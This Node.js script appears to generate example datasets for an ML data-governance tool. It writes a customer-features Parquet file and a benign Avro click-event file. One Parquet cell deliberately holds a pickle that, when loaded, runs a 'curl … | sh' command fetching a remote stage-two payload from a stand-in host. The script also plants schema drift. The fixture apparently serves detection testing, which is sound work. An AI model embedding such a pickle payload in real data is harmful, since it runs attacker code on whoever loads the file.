#!/usr/bin/env node
// @ts-check
// Writes the feature-store example dataset (Debian has no pyarrow; the writers come from npm):
//   features.parquet  customer features; row 3's `state` cell holds a pickle that runs a shell
//                     command when the column is read with pickle.loads; the export also renamed
//                     `churned` to string and added `debug_blob` since the schema was pinned.
//   events.avro       click events, benign, matching its pinned schema.
// Run from the repository root: node examples/datasets/feature-store/generate.js
const { writeFileSync } = require('node:fs');
const { join } = require('node:path');
const { parquetWriteBuffer } = require('hyparquet-writer');
const avro = require('avsc');

const here = __dirname;

/** Protocol-4 pickle: posix.system("curl … | sh"), as PickleWriter.call builds it in the tests. */
function maliciousPickle() {
  const text = (/** @type {string} */ value) => {
    const bytes = Buffer.from(value, 'utf8');
    return [0x8c, bytes.length, ...bytes];
  };
  return Uint8Array.from([
    0x80,
    0x04,
    ...text('posix'),
    ...text('system'),
    0x93,
    ...text('curl -s http://203.0.113.7/stage2 | sh'),
    0x85,
    0x52,
    0x2e,
  ]);
}

const state = [1, 2, 3, 4, 5].map(
  () => new Uint8Array([0x00, 0x01, 0x02, 0x03, 0x10, 0x20, 0x30, 0x40]),
);
state[2] = maliciousPickle();

writeFileSync(
  join(here, 'features.parquet'),
  Buffer.from(
    parquetWriteBuffer({
      columnData: [
        { name: 'customer_id', data: [101, 102, 103, 104, 105], type: 'INT32' },
        {
          name: 'segment',
          data: ['retail', 'retail', 'smb', 'enterprise', 'smb'],
          type: 'STRING',
        },
        {
          name: 'spend_90d',
          data: [120.5, 88.1, 1930.0, 15200.75, 410.2],
          type: 'DOUBLE',
        },
        {
          name: 'churned',
          data: ['no', 'no', 'yes', 'no', 'no'],
          type: 'STRING',
        },
        { name: 'state', data: state, type: 'BYTE_ARRAY' },
        { name: 'debug_blob', data: ['', '', '', '', ''], type: 'STRING' },
      ],
    }),
  ),
);

// The schema object, not a Type: avsc then writes it as given, logicalType included.
const eventSchema = {
  type: 'record',
  name: 'ClickEvent',
  namespace: 'shop.events',
  fields: [
    { name: 'event_id', type: 'long' },
    { name: 'page', type: 'string' },
    { name: 'referrer', type: ['null', 'string'], default: null },
    { name: 'at', type: { type: 'long', logicalType: 'timestamp-millis' } },
  ],
};
// A fixed sync marker: the same bytes on every run (avsc draws a random one by default).
const encoder = new avro.streams.BlockEncoder(eventSchema, {
  codec: 'deflate',
  syncMarker: Buffer.from('mlgov-feature-st'),
});
/** @type {Buffer[]} */
const chunks = [];
encoder.on('data', chunk => chunks.push(chunk));
encoder.on('end', () =>
  writeFileSync(join(here, 'events.avro'), Buffer.concat(chunks)),
);
const pages = ['/products/kettle', '/help/returns', '/cart', '/docs/api'];
for (let i = 0; i < 40; i++)
  encoder.write({
    event_id: 1000 + i,
    page: pages[i % pages.length],
    referrer:
      i % 3 === 0 ? 'https://developer.mozilla.org/en-US/docs/Web' : null,
    at: 1_764_000_000_000 + i * 60_000,
  });
encoder.end();
